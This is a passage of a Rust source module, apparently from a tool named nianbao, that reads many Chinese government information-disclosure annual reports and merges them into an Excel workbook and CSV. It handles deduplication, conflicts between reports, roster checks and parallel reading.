//! `nianbao collect`: many reports → one workbook (and tidy CSV) for analysts.
//!
//! Inputs are files or directories (searched recursively for `*.json` and what `import` reads:
//! `*.html`, `*.htm`, `*.txt`, `*.pdf`, `*.docx`; in sorted order). Every
//! readable report becomes one row of the wide sheet `汇总` (one column per statutory cell, keyed
//! by its JSON path `table.row.column`; a path that exists in several formats is one column,
//! a format-only path gets its own column, blank for reports of other formats), all of its cells
//! go to the long sheet `长表`, and its validation findings to `校验`. A file that cannot be read
//! is listed on stderr by the caller and in the sheet `未读入`, never silently dropped.

use crate::files::Staging;
use crate::import::ImportLog;
use crate::layout::{self, Content};
use crate::lint::LintPolicy;
use crate::options::ExportError;
use crate::report::{Date, Number, Report};
use crate::template::ValueType;
use crate::validate::{self, Finding, Severity};
use crate::xlsx::{self, col_name, decimal_text, number_f64, Styles};
use crate::{csv, files, input};
use rust_decimal::Decimal;
use rust_xlsxwriter::{Formula, Workbook, XlsxError};
use std::collections::{HashMap, HashSet};
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// One statutory cell of one report.
#[derive(Debug, Clone, PartialEq)]
pub struct CellRecord {
    /// Table key (`applications`).
    pub table: String,
    /// Short table name (`表三`).
    pub table_name: String,
    /// Dotted row key.
    pub row: String,
    /// Column key.
    pub column: String,
    /// Chinese row label.
    pub row_label: String,
    /// Chinese column label.
    pub column_label: String,
    /// Position of its row in the printed report, counted over the tables in order (1-based):
    /// sorting by it gives 表二, 表三, 表四 and 一、二、三… as printed, not by code point.
    pub row_order: u32,
    /// Position of its column in the printed table (1-based).
    pub column_order: u32,
    /// Unit, if any.
    pub unit: Option<String>,
    /// Kind of value.
    pub value_type: ValueType,
    /// The value as reported (`None`: blank).
    pub value: Option<Number>,
}

impl CellRecord {
    /// The JSON path `table.row.column`: the stable column key of the wide sheet.
    pub fn path(&self) -> String {
        format!("{}.{}.{}", self.table, self.row, self.column)
    }
}

/// The statutory cells of one report: the cell labels (table, row, column, Chinese names,
/// unit, order), shared by every report of the same shape (format and mixed parts) and built
/// once per shape, and this report's own values in the same order. A batch of a thousand
/// reports so keeps one label table per shape and a value list per report (a few KB), not a
/// thousand copies of every label.
///
/// ```
/// use nianbao::collect::Cells;
/// use nianbao::{Number, Report};
/// let json = std::fs::read_to_string("examples/demo-city-2024.json").unwrap();
/// let report = Report::from_json(&json).unwrap();
/// let cells = Cells::of(&report);
/// let (label, value) = cells.iter().find(|(c, _)| c.path() == "review_litigation.review.total").unwrap();
/// assert_eq!(label.table_name, "表四");
/// assert_eq!(value, Some(Number::Int(4)));
/// // A second report of the same shape shares the labels.
/// let again = cells.with_values_of(&report);
/// assert!(again.same_labels(&cells));
/// assert_eq!(again, cells);
/// ```
#[derive(Debug, Clone)]
pub struct Cells {
    /// The shape's cells, their `value` left `None`.
    labels: Arc<[CellRecord]>,
    /// This report's values, aligned to `labels`.
    values: Vec<Option<Number>>,
}

impl PartialEq for Cells {
    fn eq(&self, other: &Cells) -> bool {
        self.values == other.values
            && (Arc::ptr_eq(&self.labels, &other.labels) || self.labels == other.labels)
    }
}

impl Cells {
    /// The cells of a report (its layout built for the labels).
    pub fn of(report: &Report) -> Cells {
        Cells::from_records(cells_of(report))
    }

    /// Cells from records (labels and values together).
    pub fn from_records(records: Vec<CellRecord>) -> Cells {
        let values = records.iter().map(|c| c.value).collect();
        let labels = records
            .into_iter()
            .map(|mut c| {
                c.value = None;
                c
            })
            .collect();
        Cells { labels, values }
    }

    /// The same labels with another report's values (the report must have this shape: the
    /// same format and mixed parts; a cell the report lacks is `None`).
    pub fn with_values_of(&self, report: &Report) -> Cells {
        let values = self
            .labels
            .iter()
            .map(|c| {
                report
                    .table(&c.table)
                    .and_then(|d| d.value(&c.row, &c.column))
            })
            .collect();
        Cells {
            labels: Arc::clone(&self.labels),
            values,
        }
    }

    /// Whether both share one label table (cheap: no comparison of labels).
    pub fn same_labels(&self, other: &Cells) -> bool {
        Arc::ptr_eq(&self.labels, &other.labels)
    }

    /// Number of cells.
    pub fn len(&self) -> usize {
        self.values.len()
    }

    /// Whether there are none.
    pub fn is_empty(&self) -> bool {
        self.values.is_empty()
    }

    /// Each cell's label (a record whose own `value` is `None`) with this report's value, in
    /// layout order.
    pub fn iter(&self) -> impl Iterator<Item = (&CellRecord, Option<Number>)> + '_ {
        self.labels.iter().zip(self.values.iter().copied())
    }

    /// The values in layout order.
    pub fn values(&self) -> &[Option<Number>] {
        &self.values
    }

    /// The cells as owned records with their values.
    pub fn records(&self) -> Vec<CellRecord> {
        self.iter()
            .map(|(c, v)| CellRecord {
                value: v,
                ..c.clone()
            })
            .collect()
    }

    /// Heap bytes this report holds of its own (its values; the shared labels not counted).
    pub fn own_heap_bytes(&self) -> usize {
        self.values.capacity() * std::mem::size_of::<Option<Number>>()
    }

    /// An address identifying the shared label table.
    fn labels_id(&self) -> usize {
        Arc::as_ptr(&self.labels) as *const CellRecord as usize
    }
}

/// One report read successfully.
#[derive(Debug, Clone)]
pub struct Entry {
    /// The file it came from.
    pub file: String,
    /// The report.
    pub report: Report,
    /// Its validation findings.
    pub findings: Vec<Finding>,
    /// Its statutory cells in layout order: labels shared with the reports of its shape, its
    /// own values.
    pub cells: Cells,
}

/// A file that could not be read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Skipped {
    /// The file (or path that does not exist).
    pub file: String,
    /// Why.
    pub error: String,
}

/// A column of the wide sheet.
#[derive(Debug, Clone, PartialEq)]
pub struct Column {
    /// Stable key: the JSON path.
    pub key: String,
    /// Chinese header: `表三 （七）总计 / 自然人`.
    pub label: String,
    /// Kind of value.
    pub value_type: ValueType,
}

/// Everything collected.
#[derive(Debug, Clone, Default)]
pub struct Collection {
    /// Reports read, in input order.
    pub entries: Vec<Entry>,
    /// Files skipped.
    pub skipped: Vec<Skipped>,
    /// Entries deliberately not read (see [`Inputs::ignored`]).
    pub ignored: Vec<Skipped>,
    /// The wide sheet's value columns: the union of every report's cells.
    pub columns: Vec<Column>,
    /// Reports met twice (kept once) and conflicting reports (kept both), see
    /// [`Collection::from_entries`].
    pub duplicates: Vec<Duplicate>,
    /// Who has not reported and who is not on the roster, when a roster was given.
    pub roster: Option<RosterCheck>,
    /// The lint levels the findings were adjusted with.
    pub lints: LintPolicy,
}

/// What the wide sheet and CSV show for a cell that does not exist in a report's format (a
/// 2019 report has no `proactive.regulations.issued`): the text `—`, distinct from an empty
/// cell, which the report left blank.
pub const NOT_IN_FORMAT: &str = "—";

/// Whether a second report of the same agency and year repeats the first or contradicts it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DuplicateKind {
    /// Same agency, year, format and numbers: the same report again, counted once.
    Duplicate,
    /// Same agency and year with different numbers (or format): both kept, to be resolved.
    Conflict,
}

impl DuplicateKind {
    /// Stable key: `duplicate` or `conflict`.
    pub fn as_str(self) -> &'static str {
        match self {
            DuplicateKind::Duplicate => "duplicate",
            DuplicateKind::Conflict => "conflict",
        }
    }
}

/// A report whose agency (after [`normalise_agency`]) and year were met before.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Duplicate {
    /// Duplicate (left out) or conflict (kept).
    pub kind: DuplicateKind,
    /// The agency as this report writes it.
    pub agency: String,
    /// Report year.
    pub year: i32,
    /// This report's file.
    pub file: String,
    /// The file of the first report of the same agency and year.
    pub first: String,
    /// For a conflict: the JSON paths whose values differ (`format` when the formats do).
    pub differing: Vec<String>,
}

/// An agency name for comparison: without spaces (ASCII or full-width) and with full-width
/// brackets as half-width ones, so `某某县（区）人民政府` and `某某县 (区)人民政府` are one agency.
pub fn normalise_agency(name: &str) -> String {
    name.chars()
        .filter(|c| !c.is_whitespace())
        .map(|c| match c {
            '（' => '(',
            '）' => ')',
            '［' | '【' => '[',
            '］' | '】' => ']',
            c => c,
        })
        .collect()
}

/// The agencies expected to report (`collect --roster FILE`: one name per line; blank lines and
/// lines starting with `#` are skipped).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Roster {
    /// Agency names as written in the roster.
    pub agencies: Vec<String>,
}

impl Roster {
    /// Reads a roster from its text.
    pub fn parse(text: &str) -> Roster {
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        Roster {
            agencies: text
                .lines()
                .map(str::trim)
                .filter(|l| !l.is_empty() && !l.starts_with('#'))
                .map(str::to_string)
                .collect(),
        }
    }
}

/// The roster compared with the reports, per report year.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RosterCheck {
    /// Per year (ascending): agencies on the roster without a report of that year.
    pub missing: Vec<(i32, Vec<String>)>,
    /// Reports from agencies not on the roster: year, agency, file.
    pub unknown: Vec<(i32, String, String)>,
}

impl RosterCheck {
    /// Compares the roster with the entries' agencies, year by year.
    pub fn new(roster: &Roster, entries: &[Entry]) -> RosterCheck {
        let mut years: Vec<i32> = entries.iter().map(|e| e.report.year).collect();
        years.sort();
        years.dedup();
        let on_roster: HashSet<String> = roster
            .agencies
            .iter()
            .map(|a| normalise_agency(a))
            .collect();
        let mut check = RosterCheck::default();
        for y in years {
            let present: HashSet<String> = entries
                .iter()
                .filter(|e| e.report.year == y)
                .map(|e| normalise_agency(&e.report.agency))
                .collect();
            let mut seen = HashSet::new();
            let missing: Vec<String> = roster
                .agencies
                .iter()
                .filter(|a| {
                    let n = normalise_agency(a);
                    !present.contains(&n) && seen.insert(n)
                })
                .cloned()
                .collect();
            check.missing.push((y, missing));
            for e in entries.iter().filter(|e| e.report.year == y) {
                if !on_roster.contains(&normalise_agency(&e.report.agency)) {
                    check
                        .unknown
                        .push((y, e.report.agency.clone(), e.file.clone()));
                }
            }
        }
        check
    }

    /// Agencies missing over all years.
    pub fn missing_count(&self) -> usize {
        self.missing.iter().map(|(_, v)| v.len()).sum()
    }
}

/// What a collection does besides reading: the roster to compare with, the lint levels.
#[derive(Debug, Clone, Default)]
pub struct CollectOptions {
    /// `--roster`: who is expected to report.
    pub roster: Option<Roster>,
    /// The lint levels applied to every report's findings.
    pub lints: LintPolicy,
}

/// The files a collection reads, found by [`expand_inputs`].
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Inputs {
    /// Files to read, in order.
    pub files: Vec<PathBuf>,
    /// Inputs that could not be read (a path that does not exist, an unreadable folder).
    pub skipped: Vec<Skipped>,
    /// Entries deliberately not read, with the reason: not a regular file (FIFO, device,
    /// socket), a folder already visited (a symbolic-link loop), a file already read under
    /// another name.
    pub ignored: Vec<Skipped>,
}

/// The extensions of the files a folder walk reads: report JSON and what `import` reads.
pub const WALKED: [&str; 6] = ["json", "html", "htm", "txt", "pdf", "docx"];

/// Expands inputs: files as given, folders recursively (the extensions in [`WALKED`], sorted
/// by path). Symbolic
/// links are followed; a folder or file reached twice (a link loop, a second link to the same
/// report) is read once and the repeat listed in [`Inputs::ignored`], as is every non-regular
/// file found in a folder (a FIFO named `*.json` would block the walk forever). Files named on
/// the command line are read whatever their type (`<(…)` is a pipe).
pub fn expand_inputs(inputs: &[PathBuf]) -> Inputs {
    let mut walk = Walk::default();
    for i in inputs {
        match std::fs::metadata(i) {
            Ok(m) if m.is_dir() => {
                if let Some(id) = files::file_id(&m) {
                    walk.dirs.insert(id);
                }
                walk.dir(i);
            }
            Ok(m) => walk.file(i, &m, true),
            Err(e) => walk.found.skipped.push(Skipped {
                file: i.display().to_string(),
                error: if e.kind() == std::io::ErrorKind::NotFound {
                    "文件不存在 (no such file or directory)".into()
                } else {
                    format!("无法读取 (cannot read: {e})")
                },
            }),
        }
    }
    walk.found
}

#[derive(Default)]
struct Walk {
    found: Inputs,
    /// Folders visited (device, inode).
    dirs: HashSet<(u64, u64)>,
    /// Files taken (device, inode) → where first seen.
    seen: HashMap<(u64, u64), PathBuf>,
}

impl Walk {
    fn ignore(&mut self, p: &Path, why: String) {
        self.found.ignored.push(Skipped {
            file: p.display().to_string(),
            error: why,
        });
    }

    fn file(&mut self, p: &Path, m: &std::fs::Metadata, explicit: bool) {
        if !m.is_file() {
            if explicit {
                self.found.files.push(p.to_path_buf());
            } else {
                self.ignore(
                    p,
                    "不是普通文件（FIFO、设备或套接字），未读取 (not a regular file)".into(),
                );
            }
            return;
        }
        if let Some(id) = files::file_id(m) {
            if let Some(first) = self.seen.get(&id) {
                let why = format!(
                    "与 {} 是同一个文件，只读一次 (same file as {})",
                    first.display(),
                    first.display()
                );
                self.ignore(p, why);
                return;
            }
            self.seen.insert(id, p.to_path_buf());
        }
        self.found.files.push(p.to_path_buf());
    }

    fn dir(&mut self, dir: &Path) {
        let rd = match std::fs::read_dir(dir) {
            Ok(rd) => rd,
            Err(e) => {
                self.found.skipped.push(Skipped {
                    file: dir.display().to_string(),
                    error: format!("无法读取目录 (cannot read directory: {e})"),
                });
                return;
            }
        };
        let mut paths: Vec<PathBuf> = rd.filter_map(|e| e.ok()).map(|e| e.path()).collect();
        paths.sort();
        for p in paths {
            let json = p.extension().is_some_and(|x| {
                WALKED
                    .iter()
                    .any(|w| x.eq_ignore_ascii_case(std::ffi::OsStr::new(w)))
            });
            match std::fs::metadata(&p) {
                Ok(m) if m.is_dir() => match files::file_id(&m) {
                    Some(id) if !self.dirs.insert(id) => self.ignore(
                        &p,
                        "已访问过的目录（符号链接循环或重复链接），跳过 (folder already visited: a link loop)"
                            .into(),
                    ),
                    _ => self.dir(&p),
                },
                Ok(m) if json => self.file(&p, &m, false),
                Ok(_) => {}
                Err(e) if json => self.found.skipped.push(Skipped {
                    file: p.display().to_string(),
                    error: format!("无法读取 (cannot read: {e})"),
                }),
                Err(_) => {
                    if std::fs::symlink_metadata(&p).is_ok_and(|m| m.file_type().is_symlink()) {
                        self.ignore(&p, "符号链接指向不存在的位置 (dangling symbolic link)".into());
                    }
                }
            }
        }
    }
}

/// The statutory cells of a report, in layout order.
pub fn cells_of(report: &Report) -> Vec<CellRecord> {
    let doc = layout::build(report);
    let mut out = Vec::new();
    let mut row_order = 0u32;
    for b in &doc.blocks {
        let layout::Block::Table(t) = b else { continue };
        let Some(name) = &t.name else { continue };
        for row in &t.rows {
            row_order += 1;
            for c in &row.cells {
                if let Content::Number(n) = &c.content {
                    out.push(CellRecord {
                        row_order,
                        column_order: c.col as u32 + 1,
                        table: n.key.table.to_string(),
                        table_name: name.clone(),
                        row: n.key.row.to_string(),
                        column: n.key.column.to_string(),
                        row_label: n.row_label.to_string(),
                        column_label: n.column_label.to_string(),
                        unit: n.unit.clone(),
                        value_type: n.value_type,
                        value: n.value,
                    });
                }
            }
        }
    }
    out
}

/// Cells of reports of one shape (format and mixed parts) share labels: the layout
/// is built once per shape and the values are filled in from each report.
type ShapeCache = HashMap<(String, Vec<(String, String)>), Cells>;

fn cells_cached(report: &Report, cache: &mut ShapeCache) -> Cells {
    let shape = (
        report.format.clone(),
        report
            .mixed_parts()
            .into_iter()
            .map(|(t, p, f)| (format!("{t}.{p}"), f.to_string()))
            .collect(),
    );
    cache
        .entry(shape)
        .or_insert_with(|| Cells::of(report))
        .with_values_of(report)
}

fn read_one(path: &Path, cache: &mut ShapeCache, check: bool) -> Result<Entry, Skipped> {
    read_logged(path, cache, check).map(|(e, _)| e)
}

/// [`read_one`], also giving the import log (empty for report JSON).
fn read_logged(
    path: &Path,
    cache: &mut ShapeCache,
    check: bool,
) -> Result<(Entry, ImportLog), Skipped> {
    let file = path.display().to_string();
    let skipped = |error: String| Skipped {
        file: file.clone(),
        error,
    };
    let bytes = input::read_file(path).map_err(|e| skipped(e.to_string()))?;
    let ext = path
        .extension()
        .map(|e| e.to_string_lossy().to_ascii_lowercase())
        .unwrap_or_default();
    let json = ext == "json"
        || (!WALKED.contains(&ext.as_str())
            && crate::import::detect(&bytes, &file) == crate::import::SourceKind::Json);
    // Report JSON as always; anything else through the importer, its log becoming findings.
    let (report, mut findings, log) = if json {
        let text = input::decode(bytes).map_err(|e| skipped(e.to_string()))?;
        let report = Report::from_json(&text).map_err(|e| skipped(e.to_string()))?;
        (report, Vec::new(), ImportLog::default())
    } else {
        let imported = crate::import::read_any(&bytes, &file, &Default::default())
            .map_err(|e| skipped(e.to_string()))?;
        (imported.report, imported.log.findings(), imported.log)
    };
    if check {
        findings.extend(validate::validate(&report, None));
    }
    let cells = cells_cached(&report, cache);
    Ok((
        Entry {
            file,
            report,
            findings,
            cells,
        },
        log,
    ))
}

/// Reads one input of a batch collection (`nianbao collect --jobs N`, one call per input on
/// any thread): read (report JSON, or through the importer), validated, the lint levels
/// applied to its findings, and trimmed to what a collection uses (agency, year, format,
/// level, publication date; the numbers are in [`Entry::cells`]): the prose and the table
/// data are dropped, so a batch holds cell records, not every parsed report. Also gives the
/// import log (empty for report JSON). [`collect_workbook_of`] writes the workbook of such
/// entries: the same bytes as [`collect_workbook_with`] over the same files.
///
/// # Errors
/// The input as [`Skipped`] (with its reason) when it cannot be read.
pub fn read_input(path: &Path, lints: &LintPolicy) -> Result<(Entry, ImportLog), Skipped> {
    thread_local! {
        static CACHE: std::cell::RefCell<ShapeCache> = std::cell::RefCell::new(ShapeCache::new());
    }
    let (mut e, log) = CACHE.with(|c| read_logged(path, &mut c.borrow_mut(), true))?;
    e.findings = lints.apply(std::mem::take(&mut e.findings));
    e.report = slim(e.report);
    Ok((e, log))
}

/// A report reduced to the fields a collection shows besides its cells.
fn slim(r: Report) -> Report {
    Report {
        format: r.format,
        agency: r.agency,
        year: r.year,
        title: None,
        level: r.level,
        published: r.published,
        headings: Default::default(),
        preamble: Vec::new(),
        overview: Vec::new(),
        proactive: Default::default(),
        applications: Default::default(),
        review_litigation: Default::default(),
        problems: Vec::new(),
        other: Vec::new(),
    }
}

/// The workbook of entries read with [`read_input`] (already validated, lint levels applied:
/// not validated again), in input order; `skipped` and `ignored` as in [`Inputs`] (with the
/// inputs [`read_input`] could not read), listed on the sheet `未读入`.
///
/// # Errors
/// [`ExportError::Writer`] when the workbook cannot be built.
pub fn collect_workbook_of(
    entries: Vec<Entry>,
    skipped: Vec<Skipped>,
    ignored: Vec<Skipped>,
    opts: CollectOptions,
) -> Result<(Collection, Vec<u8>), ExportError> {
    let c = collection_of(entries, skipped, ignored, opts);
    let bytes = c.xlsx()?;
    Ok((c, bytes))
}

/// The collection of entries read with [`read_input`], as [`collect_workbook_of`] builds it,
/// for [`Collection::write_xlsx_to`] to write straight to a file.
pub fn collection_of(
    entries: Vec<Entry>,
    skipped: Vec<Skipped>,
    ignored: Vec<Skipped>,
    opts: CollectOptions,
) -> Collection {
    let mut c = Collection::from_entries(entries, skipped);
    c.ignored = ignored;
    c.lints = opts.lints;
    c.roster = opts.roster.map(|r| RosterCheck::new(&r, &c.entries));
    c
}

fn threads() -> usize {
    std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1)
        .clamp(1, 8)
}

/// Reads and validates every input (in parallel), keeping input order. A directory stands for
/// the report files in it; a file that cannot be read is skipped with its reason.
///
/// ```
/// use std::path::PathBuf;
/// let c = nianbao::collect::collect(&[PathBuf::from("examples")]);
/// // Four files; the cleaned seed is the seed again (same agency once cleaned, same year and
/// // numbers), so it is counted once and listed as a duplicate.
/// assert_eq!(c.entries.len(), 3);
/// assert_eq!(c.duplicates.len(), 1);
/// assert!(c.skipped.is_empty());
/// let csv = c.wide_csv(); // one row per report, one column per statutory cell
/// assert_eq!(csv.lines().count(), 4);
/// ```
pub fn collect(inputs: &[PathBuf]) -> Collection {
    read_all(inputs, true)
}

/// Reads every input and writes the workbook, validating the reports in worker threads while
/// the long sheet is written (the same result as [`collect`] then [`Collection::xlsx`], faster).
///
/// # Errors
/// [`ExportError::Writer`] when the workbook cannot be built.
pub fn collect_workbook(inputs: &[PathBuf]) -> Result<(Collection, Vec<u8>), ExportError> {
    collect_workbook_from(expand_inputs(inputs))
}

/// [`collect_workbook`] for inputs already expanded (so the caller can check its outputs
/// against the files first).
///
/// # Errors
/// [`ExportError::Writer`] when the workbook cannot be built.
pub fn collect_workbook_from(inputs: Inputs) -> Result<(Collection, Vec<u8>), ExportError> {
    collect_workbook_with(inputs, CollectOptions::default())
}

/// [`collect_workbook_from`] with a roster (the `缺报名单` sheet) and the lint levels in force
/// (applied to every report's findings, counted on the `考核` sheet).
///
/// # Errors
/// [`ExportError::Writer`] when the workbook cannot be built.
pub fn collect_workbook_with(
    inputs: Inputs,
    opts: CollectOptions,
) -> Result<(Collection, Vec<u8>), ExportError> {
    let mut c = read_found(inputs, false);
    c.lints = opts.lints;
    c.roster = opts.roster.map(|r| RosterCheck::new(&r, &c.entries));
    let bytes = c.validate_and_write(SHEET_ROWS).map_err(writer_error)?;
    Ok((c, bytes))
}

fn read_all(inputs: &[PathBuf], check: bool) -> Collection {
    read_found(expand_inputs(inputs), check)
}

fn read_found(found: Inputs, check: bool) -> Collection {
    let Inputs {
        files,
        mut skipped,
        ignored,
    } = found;
    let threads = threads();
    let chunk = files.len().div_ceil(threads).max(1);
    let results: Vec<Result<Entry, Skipped>> = std::thread::scope(|s| {
        let handles: Vec<_> = files
            .chunks(chunk)
            .map(|part| {
                s.spawn(move || {
                    let mut cache = ShapeCache::new();
                    part.iter()
                        .map(|p| read_one(p, &mut cache, check))
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| {
                h.join().unwrap_or_else(|_| {
                    vec![Err(Skipped {
                        file: String::new(),
                        error: "内部错误 (internal error while reading)".into(),
                    })]
                })
            })
            .collect()
    });
    let mut entries = Vec::new();
    for r in results {
        match r {
            Ok(e) => entries.push(e),
            Err(s) => skipped.push(s),
        }
    }
    let mut c = Collection::from_entries(entries, skipped);
    c.ignored = ignored;
    c
}

/// Leaves out repeated reports: a report of the same agency (after [`normalise_agency`]), year,
/// format and numbers as an earlier one is a duplicate and is left out; the same agency and
/// year with other numbers is a conflict and is kept (both reports stay, to be resolved).
fn deduplicate(entries: Vec<Entry>) -> (Vec<Entry>, Vec<Duplicate>) {
    let mut kept: Vec<Entry> = Vec::with_capacity(entries.len());
    let mut first: HashMap<(String, i32), Vec<usize>> = HashMap::new();
    let mut found = Vec::new();
    for e in entries {
        let key = (normalise_agency(&e.report.agency), e.report.year);
        let earlier = first.entry(key).or_default();
        let mut conflict: Option<(&Entry, Vec<String>)> = None;
        let mut same = None;
        for &i in earlier.iter() {
            let k = &kept[i];
            let differing = differing_cells(k, &e);
            if differing.is_empty() {
                same = Some(k.file.clone());
                break;
            }
            if conflict.is_none() {
                conflict = Some((k, differing));
            }
        }
        if let Some(first_file) = same {
            found.push(Duplicate {
                kind: DuplicateKind::Duplicate,
                agency: e.report.agency.clone(),
                year: e.report.year,
                file: e.file.clone(),
                first: first_file,
                differing: Vec::new(),
            });
            continue;
        }
        if let Some((k, differing)) = conflict {
            found.push(Duplicate {
                kind: DuplicateKind::Conflict,
                agency: e.report.agency.clone(),
                year: e.report.year,
                file: e.file.clone(),
                first: k.file.clone(),
                differing,
            });
        }
        earlier.push(kept.len());
        kept.push(e);
    }
    (kept, found)
}

/// The JSON paths whose values differ between two reports (`format` when the formats do).
fn differing_cells(a: &Entry, b: &Entry) -> Vec<String> {
    if a.report.format != b.report.format {
        return vec!["format".into()];
    }
    let values = |e: &Entry| -> HashMap<String, Option<Number>> {
        e.cells.iter().map(|(c, v)| (c.path(), v)).collect()
    };
    let (va, vb) = (values(a), values(b));
    let mut out: Vec<String> = va
        .iter()
        .filter(|(k, v)| vb.get(*k) != Some(*v))
        .map(|(k, _)| k.clone())
        .chain(vb.keys().filter(|k| !va.contains_key(*k)).cloned())
        .collect();
    out.sort();
    out
}

impl Collection {
    /// Builds the column union from entries, after leaving out duplicates (same agency, year,
    /// format and numbers as an earlier report: counted once) and noting conflicts (same agency
    /// and year, other numbers: both kept) in [`Collection::duplicates`].
    pub fn from_entries(entries: Vec<Entry>, skipped: Vec<Skipped>) -> Collection {
        let (entries, duplicates) = deduplicate(entries);
        let mut columns: Vec<Column> = Vec::new();
        let mut seen: HashMap<String, usize> = HashMap::new();
        // Formats in id order, newest first, so the common 2021 layout leads.
        let mut formats: Vec<&str> = entries.iter().map(|e| e.report.format.as_str()).collect();
        formats.sort();
        formats.dedup();
        formats.reverse();
        // Each label table once: reports sharing it add no column.
        let mut done: HashSet<usize> = HashSet::new();
        for f in formats {
            for e in entries.iter().filter(|e| e.report.format == f) {
                if !done.insert(e.cells.labels_id()) {
                    continue;
                }
                for (c, _) in e.cells.iter() {
                    let key = c.path();
                    if seen.contains_key(&key) {
                        continue;
                    }
                    seen.insert(key.clone(), columns.len());
                    columns.push(Column {
                        label: format!("{} {} / {}", c.table_name, c.row_label, c.column_label),
                        key,
                        value_type: c.value_type,
                    });
                }
            }
        }
        Collection {
            entries,
            skipped,
            ignored: Vec::new(),
            columns,
            duplicates,
            roster: None,
            lints: LintPolicy::new(),
        }
    }

    /// Each entry's values aligned to [`Collection::columns`].
    pub fn rows(&self) -> Vec<Vec<Option<Number>>> {
        let maps = self.column_maps();
        self.entries.iter().map(|e| self.row_of(e, &maps)).collect()
    }

    /// Per label table (by its address): the column of [`Collection::columns`] of each of its
    /// cells, so a report's row is laid out without building its paths again.
    fn column_maps(&self) -> HashMap<usize, Vec<Option<usize>>> {
        let index: HashMap<&str, usize> = self
            .columns
            .iter()
            .enumerate()
            .map(|(i, c)| (c.key.as_str(), i))
            .collect();
        let mut maps = HashMap::new();
        for e in &self.entries {
            maps.entry(e.cells.labels_id()).or_insert_with(|| {
                e.cells
                    .iter()
                    .map(|(c, _)| index.get(c.path().as_str()).copied())
                    .collect()
            });
        }
        maps
    }

    /// One entry's values aligned to [`Collection::columns`] (`maps` from
    /// [`Collection::column_maps`]).
    fn row_of(&self, e: &Entry, maps: &HashMap<usize, Vec<Option<usize>>>) -> Vec<Option<Number>> {
        let mut row = vec![None; self.columns.len()];
        if let Some(map) = maps.get(&e.cells.labels_id()) {
            for (at, v) in map.iter().zip(e.cells.values()) {
                if let Some(i) = at {
                    row[*i] = *v;
                }
            }
        }
        row
    }

    /// Per entry, per column of [`Collection::columns`]: whether the cell exists in the
    /// entry's format (a cell of another format shows [`NOT_IN_FORMAT`], a blank cell of its
    /// own format stays empty).
    pub fn in_format(&self) -> Vec<Vec<bool>> {
        let by_format = self.own_by_format();
        self.entries
            .iter()
            .map(|e| by_format[e.report.format.as_str()].clone())
            .collect()
    }

    /// Per format: per column, whether the cell exists in some report of that format.
    fn own_by_format(&self) -> HashMap<&str, Vec<bool>> {
        let mut paths: HashMap<&str, HashSet<String>> = HashMap::new();
        let mut done: HashSet<(&str, usize)> = HashSet::new();
        for e in &self.entries {
            let f = e.report.format.as_str();
            let set = paths.entry(f).or_default();
            if done.insert((f, e.cells.labels_id())) {
                set.extend(e.cells.iter().map(|(c, _)| c.path()));
            }
        }
        paths
            .into_iter()
            .map(|(f, set)| {
                let own = self.columns.iter().map(|c| set.contains(&c.key)).collect();
                (f, own)
            })
            .collect()
    }

    /// Column totals (exact; blank cells skipped), aligned to [`Collection::columns`].
    pub fn totals(&self) -> Vec<Decimal> {
        let mut t = vec![Decimal::ZERO; self.columns.len()];
        let maps = self.column_maps();
        for e in &self.entries {
            for (i, v) in self.row_of(e, &maps).iter().enumerate() {
                if let Some(v) = v {
                    t[i] += v.to_decimal();
                }
            }
        }
        t
    }

    /// The (year, format) pairs of the reports, ascending: totals are summed within each.
    pub fn groups(&self) -> Vec<(i32, String)> {
        let mut g: Vec<(i32, String)> = self
            .entries
            .iter()
            .map(|e| (e.report.year, e.report.format.clone()))
            .collect();
        g.sort();
        g.dedup();
        g
    }

    /// Column totals over the reports of one year and format (exact; blank cells skipped).
    pub fn totals_of(&self, year: i32, format: &str) -> Vec<Decimal> {
        let mut t = vec![Decimal::ZERO; self.columns.len()];
        let maps = self.column_maps();
        for e in &self.entries {
            if e.report.year != year || e.report.format != format {
                continue;
            }
            for (i, v) in self.row_of(e, &maps).iter().enumerate() {
                if let Some(v) = v {
                    t[i] += v.to_decimal();
                }
            }
        }
        t
    }

    /// The creation date stamped into the workbook: 1 January after the latest report year.
    pub fn date(&self) -> Date {
        Date {
            year: self
                .entries
                .iter()
                .map(|e| e.report.year + 1)
                .max()
                .unwrap_or(2000),
            month: 1,
            day: 1,
        }
    }

    /// The leading (non-value) columns of the wide sheet: key, Chinese label.
    pub const LEAD: [(&'static str, &'static str); 8] = [
        ("file", "文件"),
        ("agency", "机关"),
        ("year", "年度"),
        ("format", "格式"),
        ("level", "机关类型"),
        ("published", "发布日期"),
        ("errors", "错误数"),
        ("warnings", "警告数"),
    ];

    fn lead_values(e: &Entry) -> [String; 8] {
        let n = |s| e.findings.iter().filter(|f| f.severity == s).count();
        [
            e.file.clone(),
            e.report.agency.clone(),
            e.report.year.to_string(),
            e.report.format.clone(),
            e.report
                .level
                .and_then(|l| serde_json::to_value(l).ok())
                .and_then(|v| v.as_str().map(str::to_string))
                .unwrap_or_default(),
            e.report
                .published
                .map(|d| d.to_string())
                .unwrap_or_default(),
            n(Severity::Error).to_string(),
            n(Severity::Warning).to_string(),
        ]
    }

    /// The wide table as CSV (the crate's one CSV writer: RFC 4180, formulas neutralised): one header line
    /// of stable keys, one line per report.
    pub fn wide_csv(&self) -> String {
        let mut out = Vec::new();
        // Writing to memory cannot fail.
        let _ = self.write_wide_csv(&mut out, csv::Encoding::Utf8);
        String::from_utf8(out).unwrap_or_default()
    }

    /// [`Collection::wide_csv`] written line by line to `out` in `encoding`.
    ///
    /// # Errors
    /// The error of `out`.
    pub fn write_wide_csv(
        &self,
        out: impl std::io::Write,
        encoding: csv::Encoding,
    ) -> std::io::Result<()> {
        let mut w = csv::Writer::new(out, encoding)?;
        let header = Self::LEAD
            .iter()
            .map(|(k, _)| k.to_string())
            .chain(self.columns.iter().map(|c| c.key.clone()));
        w.record(header)?;
        let maps = self.column_maps();
